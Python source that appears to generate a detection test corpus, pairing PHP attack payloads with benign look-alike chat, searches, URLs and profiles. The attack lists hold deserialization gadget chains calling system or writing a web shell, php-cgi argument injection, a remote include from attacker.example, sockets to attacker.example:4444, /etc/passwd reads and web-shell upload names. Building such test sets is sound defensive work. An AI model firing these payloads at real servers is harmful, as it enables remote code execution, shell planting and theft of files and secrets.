_JOOMLA = "}__t|" + _ser(Obj("JDatabaseDriverMysqli", [
    ("fc", Obj("JSimplepieFactory", [])),
    ("\0\0\0disconnectHandlers", [[Obj("SimplePie", [
        ("sanitize", Obj("JDatabaseDriverMysql", [])), ("feed_url", "phpinfo();JFactory::getConfig();exit"),
        ("javascript", 9999), ("cache_name_function", "assert"), ("cache", True),
        ("cache_location", "php://memory")]), "init"]]),
    ("connection", True)])) + "\U0001d306"
_HSTACK = "GuzzleHttp\\HandlerStack"
_DRUPAL = Obj("GuzzleHttp\\Psr7\\FnStream", [
    (_priv("GuzzleHttp\\Psr7\\FnStream", "methods"), {"close": [Obj(_HSTACK, [
        (_priv(_HSTACK, "handler"), "id"), (_priv(_HSTACK, "stack"), [["system"]]),
        (_priv(_HSTACK, "cached"), False)]), "resolve"]}),
    ("_fn_close", [Obj(_HSTACK, [(_priv(_HSTACK, "handler"), "id"), (_priv(_HSTACK, "stack"), [["system"]]),
                                 (_priv(_HSTACK, "cached"), False)]), "resolve"])])
_LOGGER = Obj("Logger", [("logFile", "/var/www/html/shell.php"), ("logData", _SHELL)])
_ADMIN_USER = Obj("User", [("username", "admin"), ("isAdmin", True)])
_SWIFT = Obj("Swift_ByteStream_TemporaryFileByteStream", [
    (_priv("Swift_ByteStream_FileByteStream", "_path"), "/var/www/html/index.php"),
    (_priv("Swift_ByteStream_FileByteStream", "_mode"), "w+b")])
PHP_OBJECT_INJECTION = [
    _ser(Obj("stdClass", [])),
    _ser([Obj("stdClass", [])]),
    _ser(_ADMIN_USER),
    _ser({"username": "admin", "role": "admin"}),
    _ser({"username": "admin", "password": True}),
    _ser(_LARAVEL_FAKER),
    _ser(_LARAVEL_DISPATCHER),
    _ser(_MONOLOG),
    _ser(_GUZZLE),
    _ser(_WP_ITER),
    _ser(_SYMFONY),
    _ser(_YII),
    _ser(_ZEND),
    _JOOMLA,
    _ser(_DRUPAL),
    _ser(_LOGGER),
    _ser(_SWIFT),
    _ser(Obj("stdClass", [])).replace("O:8", "O:+8"),
    _ser([_ADMIN_USER]).replace("O:4", "O:+4"),
    'O:4:"User":1:{S:7:"\\69sAdmin";b:1;}',
    _ser(_array_object("ArrayObject", [_LOGGER], {})),
    _ser(Custom("SplObjectStorage", "x:i:1;" + _ser(_LOGGER) + ",N;;m:a:0:{}")),
    _b64(_ser(_ADMIN_USER)),
    _b64(_ser(_LARAVEL_FAKER)),
    _ser(Obj("Session", [("user", Obj("User", [("id", 1), ("email", "admin@example.com")]))])),
    _ser({"cart": [Obj("Template", [("cacheFile", "../../public/x.php"), ("template", _SHELL)])]}),
]

# php-config-directives. Target: PHP's configuration (php-cgi argument injection CVE-2012-1823 and the 2024
# soft-hyphen variant, .user.ini / .htaccess uploads, FastCGI PHP_VALUE smuggling, ini_set in an eval sink).
PHP_CONFIG = [
    "auto_prepend_file=php://input",
    "allow_url_include=1",
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "\xadd allow_url_include=1 \xadd auto_prepend_file=php://input",
    "-dallow_url_include=On -dauto_prepend_file=http://attacker.example/s.txt",
    "auto_prepend_file=uploads/avatar.gif",
    'php_value auto_prepend_file "/var/www/html/uploads/shell.jpg"',
    "php_flag engine on",
    "AddType application/x-httpd-php .jpg",
    "ini_set('allow_url_include', '1');",
    'ini_set("open_basedir", "/");',
    "PHP_VALUE=auto_prepend_file=php://input",
    "PHP_ADMIN_VALUE=allow_url_include=On",
    "auto_append_file=/etc/passwd",
    "error_log=/var/www/html/uploads/x.php",
    "mail.log=/var/www/html/x.php",
    "extension=/tmp/evil.so",
    "sendmail_path=\"/bin/sh -c 'id > /tmp/x'\"",
    "register_globals=On",
    "allow_url_fopen=On",
    "-s",
    "-d safe_mode=Off -d disable_functions= -d auto_prepend_file=php://input",
    "disable_functions=",
    "open_basedir=/",
    "ini_set('disable_functions', '');",
    "php_value auto_append_file .htaccess",
]

# php-superglobals. Target: the PHP interpreter reading request data or server state through an eval sink, a
# register_globals/extract() emulation that lets parameter names overwrite session state, or a web shell.
PHP_SUPERGLOBALS = [
    "print_r($_SERVER);",
    "var_dump($_ENV);",
    "echo $_SERVER['DOCUMENT_ROOT'];",
    "{$_COOKIE['PHPSESSID']}",
    "$_SESSION['is_admin']=1;",
    "print_r($GLOBALS);",
    "extract($_POST);",
    "parse_str($_SERVER['QUERY_STRING']);",
    "$GLOBALS['_SESSION']['role']='admin';",
    "_SESSION[is_admin]=1",
    "GLOBALS[_SESSION][uid]=1",
    "_SERVER[HTTP_HOST]=attacker.example",
    "_COOKIE[auth]=1",
    "move_uploaded_file($_FILES['f']['tmp_name'], 's.php');",
    "echo $_ENV['DB_PASSWORD'];",
    "echo $HTTP_RAW_POST_DATA;",
    "$HTTP_GET_VARS['c']",
    "eval($_REQUEST['c']);",
    "include $_GET['page'].'.php';",
    "echo $_SERVER[\"HTTP_X_FORWARDED_FOR\"];",
    "{${print_r($_SERVER)}}",
    "$_POST[0]($_POST[1]);",
    "assert($_COOKIE['a']);",
    "_SESSION[user_id]=1&_SESSION[role]=admin",
    "var_export($_SESSION);",
    "file_put_contents($_GET['n'], $_POST['d']);",
]

# php-file-upload. Target: the upload handler and the web server's PHP handler (avatar, attachment and import
# names with an executable PHP extension, double extensions, case tricks, trailing characters, traversal).
PHP_UPLOAD = [
    "shell.php",
    "avatar.php.jpg",
    "avatar.jpg.php",
    "shell.phtml",
    "shell.php5",
    "shell.php7",
    "shell.pht",
    "shell.phar",
    "shell.pHp",
    "shell.PHP",
    "shell.php.",
    "shell.php%00.jpg",
    "shell.php;.jpg",
    "../../../var/www/html/shell.php",
    "shell.php::$DATA",
    "shell.php ",
    "shell.php3",
    "shell.php4",
    "shell.phtm",
    "shell.pHtMl",
    "profile_picture.png.phtml",
    "invoice.pdf.php",
    "shell.php#.jpg",
    "shell.php\x00.png",
    "file.php....",
    "filename*=UTF-8''sh%65ll.php",
    "..%2f..%2fshell.php",
]

# php-high-risk-function-names. Target: the PHP interpreter through a sink that takes a function name or an
# expression (callback=, action=, sort function, "formula" fields): file, network, process and info functions.
PHP_HIGH_RISK = [
    "phpinfo",
    "show_source",
    "shell_exec",
    "proc_open",
    "posix_getpwuid(0)",
    "show_source('index.php')",
    "highlight_file('/etc/passwd')",
    "file_get_contents('/etc/passwd')",
    "fopen('shell.php','w')",
    "file_put_contents('x.php',$_POST['c'])",
    "readfile('/etc/passwd')",
    "fsockopen('attacker.example',4444)",
    "putenv('LD_PRELOAD=/tmp/x.so');mail('a','b','c');",
    "dl('evil.so')",
    "unserialize($_COOKIE['data'])",
    "get_defined_vars()",
    "ini_get('disable_functions')",
    "scandir('/')",
    "symlink('/etc/passwd','x.txt')",
    "chmod('shell.php',0777)",
    "var_export(get_defined_constants(true)['user'])",
    "stream_socket_client('tcp://attacker.example:4444')",
    "FFI::cdef('int system(const char *c);')->system('id')",
    "imap_open('x -oProxyCommand=echo\\t" + _b64("id>/tmp/p") + "|base64\\t-d|sh}','','')",
    "error_log('<?php system($_GET[0]);?>', 3, 'x.php')",
    "curl_exec(curl_init('file:///etc/passwd'))",
    "posix_kill(getmypid(),9)",
]

FAMILIES: list[tuple[str, str, list[str]]] = [
    ("xss", "libinjection-xss", XSS_LIBINJECTION),
    ("xss", "script-tag", XSS_SCRIPT),
    ("xss", "event-handler", XSS_EVENT),
    ("xss", "attribute-vector", XSS_ATTRIBUTE),
    ("xss", "javascript-uri", XSS_JS_URI),
    ("xss", "html-injection", XSS_HTML),
    ("xss", "svg-mathml", XSS_SVG),
    ("xss", "css-expression", XSS_CSS),
    ("xss", "template-literal-dom-sink", XSS_DOM),
    ("xss", "ie-filter-vectors", XSS_IE),
    ("xss", "encoded-entity-vectors", XSS_ENCODED),
    ("xss", "client-template-injection", XSS_CSTI),
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-function-call", PHP_FUNCTION_CALL),
    ("php", "php-variable-functions", PHP_VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", PHP_WRAPPERS),
    ("php", "php-object-injection", PHP_OBJECT_INJECTION),
    ("php", "php-config-directives", PHP_CONFIG),
    ("php", "php-superglobals", PHP_SUPERGLOBALS),
    ("php", "php-file-upload", PHP_UPLOAD),
    ("php", "php-high-risk-function-names", PHP_HIGH_RISK),
]
# `name=value` payloads (php-cgi directives, register_globals names) go unquoted in form bodies and query names
RAW_KV_SUBS = {"php-config-directives", "php-superglobals"}
SUB_CYCLES = {
    "php-file-upload": (["multipart-filename", "multipart-filename", "json"],
                        ["rs-multipart-filename", "rs-multipart-filename", "rs-json"]),
    "php-config-directives": (["query", "form", "param-name", "json", "multipart-field", "header:User-Agent"],
                              ["rs-query", "rs-form", "rs-param-name", "rs-raw-body", "rs-json", "rs-cookie"]),
}
SUB_NAMES = {"php-file-upload": ["filename", "attachment_name", "avatar_filename"]}

# ----------------------------------------------------------------------------------------------------------------
# Placements
REAL_NAMES = {
    "xss": ["q", "search", "name", "bio", "redirect", "callback", "email", "returnUrl", "title", "comment"],
    "php": ["page", "file", "template", "cmd", "data", "cb", "lang", "view", "prefs", "formula"],
}
# where Latin-1 byte payloads go: the placements percent-encoding carries them in (and php-cgi's query)
LATIN_PLACES = {"query", "form", "param-name", "rs-query", "rs-form", "rs-param-name", "rs-raw-body", "cgi-query",
                "rs-cgi-query"}


def _is_latin(value: str) -> bool:
    """Bytes above 0x7f meant as single bytes on the wire (not UTF-8): sent percent-encoded as Latin-1."""
    return any(0x80 <= ord(ch) <= 0xFF for ch in value) and all(ord(ch) <= 0xFF for ch in value)


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    real_cycle = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Forwarded-Host",
                  "param-name", "xml", "multipart-field", "path"]
    boundary = "----WebKitFormBoundaryH1b0unTy2024xQ"
    upload = "GIF89a;\n"   # an image header only: the attack is the name
    file_type = "image/gif"
    xml_places = ("xml", "rs-xml", "rs-raw-body")
    xml_controls = CONTROLS_BUT_NUL

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if sub == "php-config-directives" and payload.startswith(("-", "\xad")):
            return ["cgi-query"], ["rs-cgi-query"]   # php-cgi command-line switches
        return SUB_CYCLES.get(sub, (self.real_cycle, self.rs_cycle))

    def cycled(self, cycle: Sequence[str], k: int, v: str, fallback: Sequence[str], i: int) -> str:
        return super().cycled(cycle, k, v, fallback[1:] if _is_latin(v) else fallback, i)   # bytes: no JSON

    def name(self, category: str, sub: str, k: int) -> str:
        names = SUB_NAMES.get(sub, REAL_NAMES[category])
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return _is_latin(payload)

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return sub in RAW_KV_SUBS and "=" in payload and not any(c in payload for c in "$('\" ")

    def fits(self, place: str, v: str) -> bool:
        """Latin-1 byte payloads only go where percent-encoding carries them."""
        if _is_latin(v):
            return place in LATIN_PLACES
        return super().fits(place, v)

    def xml_body(self, value: str, root: str, name: str) -> str:
        if value.startswith(("<?xml", "<svg xmlns")):
            return value   # the payload is the document (an SVG file posted as XML)
        return super().xml_body(value, root, name)

    def _cgi_query(self, p: Put) -> str:
        """php-cgi argument injection: a query string with no bare `=`, spaces as `+` (php-cgi splits it into
        argv)."""
        return self.enc(p.v, p.latin, "-:/").replace("%20", "+")

    def _p_cgi_query(self, p: Put) -> Record:
        return _get("/api/users?" + self._cgi_query(p))

    def _p_rs_cgi_query(self, p: Put) -> Record:
        return request("GET", p.path + "?" + self._cgi_query(p))


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    # bug bounty triage and security reports
    "triaged the HackerOne report on the profile page, it's a dupe of the one we closed in March",
    "Bugcrowd researcher says the XSS only fires in Safari, can someone with a Mac try to reproduce?",
    "bounty for the open redirect was $250, paid out through the platform this morning",
    "the stored XSS fix went out in 4.12.1, release notes mention it without the PoC",
    "can we get a CVE for the reflected XSS in the search page or is that overkill for a SaaS bug?",
    "reminder: never paste the researcher's payload into prod to 'check', use the staging stack",
    "the report claims self-XSS only, so it's informative, not a valid finding",
    "security@ got another beg-bounty mail about missing SPF records, ignoring it",
    "retest of #2041 passed: the bio field now escapes angle brackets",
    "we marked the clickjacking report as N/A, the page has frame-ancestors 'none'",
    "disclosure request for the upload bug approved, report goes public next week",
    "the hunter's video shows an alert box with the domain, pretty convincing",
    "severity: medium (CVSS 6.1), reflected, needs user interaction",
    "Please don't close reports as duplicate before linking the original",
    # XSS defence, front end
    "switch the widget to textContent instead of innerHTML, that's what the security review asked for",
    "CSP is still report-only; script-src 'self' plus our CDN, we flip it to enforce after the holidays",
    "Angular escapes interpolation by default, bypassSecurityTrustHtml is what bit us last time",
    "v-html is banned by our eslint config now, use the sanitize pipe",
    "DOMPurify 3.1 upgrade is merged, thanks Priya",
    "the onload handler on the iframe fires twice in Chrome, any idea why?",
    "we render markdown server side and strip raw HTML, so <script> in a comment shows as text",
    "the SVG logo upload is converted to PNG now, no more inline SVG from users",
    "the onerror fallback for broken avatars shows the initials instead",
    "autofocus on the search input annoys screen reader users, removing it",
    "the href for the docs link was javascript:void(0) in the old template, replaced with a button",
    "Content-Security-Policy header added to the admin panel too",
    "the alert() in the onboarding page was left from debugging, removed in the next build",
    "template literals in the email builder are fine, they never see user input",
    "the style attribute on the banner uses a CSS variable for the brand colour",
    "base href in the SPA has to be /app/ or the router breaks",
    "the meta refresh on the old status page redirects to the new one after 5 s",
    "the embed code for customers is an iframe with sandbox=\"allow-scripts\"",
    "Vue 3 migration: the {{ }} in our server templates now use v-pre so Vue ignores them",
    "IE11 support ends with this release, so we can drop the expression() polyfills from the old CSS",
    "the MathML rendering in the docs needs the Firefox fallback font",
    "escapeHtml() lives in utils/strings.ts, don't write a new one",
    # PHP side
    "PHP 8.3 on staging, lots of deprecation warnings for dynamic properties",
    "composer update broke the phpunit config again, pinning to 10.5",
    "the legacy admin still uses htmlspecialchars($s, ENT_QUOTES) everywhere, which is fine",
    "we replaced unserialize() on the cart cookie with json_decode last sprint",
    "display_errors is off on prod and log_errors on, please don't change php.ini by hand",
    "php-fpm workers were restarted, pm.max_children is 40 now",
    "the upload endpoint only accepts .png, .jpg and .gif, checked by content not by extension",
    "the WordPress blog is on a separate host, plugins auto-update weekly",
    "Laravel queue workers needed a restart after the deploy",
    "the old include() of language files was replaced with a whitelist",
    "allow_url_include has been off since forever, the audit just confirmed it",
    "opcache.validate_timestamps=0 on prod, so deploys need a php-fpm reload",
    "phpinfo page on the old staging box is gone, it was leaking env vars",
    "the Symfony cache warmup takes 40 s on the small instance",
    "phar files in the tools folder are just composer and phpstan",
    "session.cookie_httponly and cookie_secure are on, samesite Lax",
    "the cron that calls the PHP cleanup script runs at 03:15",
    "the exec time limit for reports is 120 s, the big export needs more",
    "system status page is green again after the database failover",
    "we shell out to ImageMagick for thumbnails; the policy.xml blocks the risky coders",
    "$_SERVER['HTTP_HOST'] should never be used to build the reset link, use the configured base URL",
    "the eval harness for the ML team is unrelated to PHP eval, different channel please",
    # everyday
    "lunch at the Script Cafe at 12:30?",
    "Friday demo: the new alert settings page and the export button",
    "my flight lands at 18:40, I'll join the call from the taxi",
    "the printer in room 4 says 'paper jam' again",
    "Congrats to the team on shipping 5.0!",
    "who has the key to the server room?",
]
SEARCHES = [
    "xss", "hackerone", "bugcrowd", "bug bounty", "security report", "script", "onload", "alert settings",
    "iframe embed", "svg logo", "content security policy", "javascript developer", "vue.js", "angular",
    "php developer", "php 8.3", "laravel", "symfony", "wordpress", "phar", "serialize", "composer",
    "phpunit", "upload avatar", "expression", "style guide", "base url", "meta tags", "form builder",
    "O'Brien", "D'Angelo", "Renée", "security@example.com", "cve-2024", "open redirect", "sandbox",
    "template", "system admin", "exec assistant", "input validation",
]
URLS = [
    "https://hackerone.com/reports/1523456",
    "https://hackerone.com/acme?type=team",
    "https://bugcrowd.com/acme",
    "https://portswigger.net/web-security/cross-site-scripting",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML",
    "https://developer.mozilla.org/en-US/docs/Web/SVG/Element/script",
    "https://angular.io/guide/security",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://github.com/cure53/DOMPurify/releases/tag/3.1.0",
    "https://www.php.net/manual/en/function.htmlspecialchars.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.core.php#ini.allow-url-include",
    "https://www.php.net/releases/8_3_0.php",
    "https://nvd.nist.gov/vuln/detail/CVE-2024-4577",
    "https://github.com/advisories/GHSA-9f6r-4x2v-m3qc",
    "https://laravel.com/docs/11.x/blade#displaying-data",
    "https://symfony.com/doc/current/security.html",
    "https://wordpress.org/news/2024/06/wordpress-6-5-5/",
    "https://www.cve.org/CVERecord?id=CVE-2023-1234",
    "https://example.com/blog/2024/05/how-we-run-our-bug-bounty",
    "https://status.example.com/incidents/2024-05-17",
    "https://docs.example.com/api/webhooks#signature",
    "https://cdn.example.net/assets/app.min.js?v=4.12.1",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://calendar.example.com/event?id=8812&title=Security%20review",
    "https://jobs.example.com/positions/senior-php-developer",
]
PROSE = [
    "Customer says the onboarding form shows a script error in Internet Explorer",
    "User reports the alert banner does not close on mobile",
    "Refund request for order 4471, duplicate charge",
    "Researcher asked for an update on report 2041, reply by Friday",
    "Bounty paid: $500 for the stored XSS in comments",
    "Account locked after too many password attempts, please unlock",
    "Cannot upload avatar, file is 12 MB",
    "Change of e-mail to o'neill@example.ie requested",
    "The embed iframe is blank on the partner site",
    "Billing address: 5 Rue de l'Église, Paris",
    "Export to CSV fails for more than 10,000 rows",
    "Please add the PHP team to the security channel",
    "Laravel upgrade ticket moved to next sprint",
    "Site shows phpinfo-like debug output after the error, fixed by the hotfix",
    "Customer wants SSO with Azure AD",
    "Invoice #2024-118 for the penetration test",
    "The style of the buttons changed after the update",
    "Templates for the welcome e-mail need the new logo",
    "Support asked if Vue or Angular is used for the dashboard",
    "Reporter says: the search box reflects my input in the page title",
    "Duplicate of HackerOne #1523456, closing",
    "SVG icons missing in Safari 17",
    "System maintenance on Sunday 02:00-04:00 UTC",
    "Password reset e-mail lands in spam",
    "Need a signed NDA before sharing the pentest report",
    "Add Zoë to the admin group",
    "Meeting notes: CSP rollout, PHP 8.3, bounty budget",
    "Form builder drops the last field when saving",
    "Base plan vs. Pro plan comparison for the sales deck",
    "Serialize the settings to JSON, not the PHP format",
    "Please whitelist the scanner IP 198.51.100.23 for the authorised test",
    "Report mentions event handlers in SVG uploads, we already rasterise them",
    "Meta description for the landing page is too long",
    "Translations for the alert dialog in German",
    "Phar Lap Racing called about the sponsorship invoice",
    "Expression of interest for the Berlin office",
    "The preview pane renders markdown, HTML is stripped",
    "Session expires too quickly on the admin panel",
    "Script Studios wants a demo next Tuesday",
    "Researcher credit: please list her as @mkim on the thanks page",
]
PROFILES = [
    ("Script Studios", "12 Canal Street, Manchester"),
    ("Alert Logistics GmbH", "Hafenstraße 8, Hamburg"),
    ("O'Connor & Sons", "3 Main St, Cork"),
    ("Eval Consulting", "Rua Augusta 120, Lisboa"),
    ("Phar Lap Racing", "Epsom Rd, Flemington VIC"),
    ("Iframe Media", "Via Roma 5, Milano"),
    ("Zoë D'Souza", "Bandra West, Mumbai"),
    ("Vue Point Optics", "88 Harbour Rd, Wellington"),
    ("Angular Momentum Labs", "Innovation Way 2, Eindhoven"),
    ("Embed & Co", "Sveavägen 14, Stockholm"),
    ("Bounty Bakery", "22 Rue du Pain, Bruxelles"),
    ("Marquee Events", "41 Broadway, New York"),
    ("Meta Tags Ltd", "Unit 4, Leeds Dock"),
    ("Renée Lefèvre", "Place Bellecour, Lyon"),
    ("Jean-Luc Système", "Boulevard Haussmann 40, Paris"),
    ("Exec Travel", "Kärntner Str. 12, Wien"),
    ("Base Camp Outdoors", "Main Rd, Chamonix"),
    ("Style & Form Interiors", "Calle Mayor 9, Madrid"),
    ("Hack Day Foundation", "1 Market St, San Francisco"),
    ("Sandbox Kids Club", "Lindenallee 3, Köln"),
]
UPLOAD_NAMES = [
    "bug-bounty-report-2041.pdf", "xss-poc-screenshot.png", "php-8.3-migration-plan.docx", "avatar.png",
    "logo.svg", "logo@2x.png", "team photo (offsite).jpg", "pentest-report-final.pdf", "release-notes-4.12.1.md",
    "composer.lock.txt", "index.html.zip", "csp-report-sample.json", "screenshot 2024-05-17 at 09.41.22.png",
    "invoice_2024-118.pdf", "alert-settings-mockup.fig", "script-for-video.docx", "style-guide-v3.pdf",
    "phpunit-results.xml", "hackerone-payout-may.csv", "embed-code-instructions.txt", "base-template.psd",
    "Renée's notes.txt", "meta-tags-checklist.xlsx", "vue-dashboard-wireframe.png", "resume - O'Brien.pdf",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "WordPress/6.5.5; https://blog.example.com"),
    ("User-Agent", "Symfony HttpClient/Curl"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Composer/2.7.6 (Linux; 6.1.0; PHP 8.3.7; cURL 7.88.1)"),
    ("User-Agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    ("Referer", "https://hackerone.com/reports/1523456"),
    ("Referer", "https://bugcrowd.com/acme/report"),
    ("Referer", "https://www.php.net/manual/en/function.htmlspecialchars.php"),
    ("Referer", "https://app.example.com/admin/users/search?q=o%27brien"),
    ("Referer", "https://www.google.com/search?q=php+unserialize+alternative"),
    ("Referer", "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Content-Security-Policy"),
    ("X-Forwarded-Host", "app.example.com"),
    ("Accept-Language", "fr-FR,fr;q=0.9,en;q=0.7"),
    ("Cookie", "session=abc123; theme=dark; tz=Europe%2FParis"),
    ("Cookie", "session=abc123; last_search=php%208.3; csp_banner_seen=1"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
